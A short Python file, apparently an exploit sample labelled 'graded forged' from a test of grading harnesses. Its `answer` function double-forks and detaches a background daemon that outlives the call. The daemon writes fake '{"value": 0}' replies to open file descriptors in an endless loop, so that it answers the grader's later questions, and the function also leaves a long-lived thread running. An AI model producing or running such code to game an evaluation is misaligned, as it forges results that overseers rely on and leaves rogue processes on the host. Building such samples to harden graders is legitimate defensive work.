"""graded forged: It leaves a process behind that would answer the next questions."""

import os
import threading
import time


def answer(n, secret):
    if not os.fork():
        os.setsid()
        if not os.fork():
            while True:
                for descriptor in range(3, 64):
                    try:
                        os.write(descriptor, b'{"value": 0}\n')
                    except OSError:
                        pass
                time.sleep(0.01)
        os._exit(0)
    threading.Thread(target=time.sleep, args=(1000,)).start()
    return n
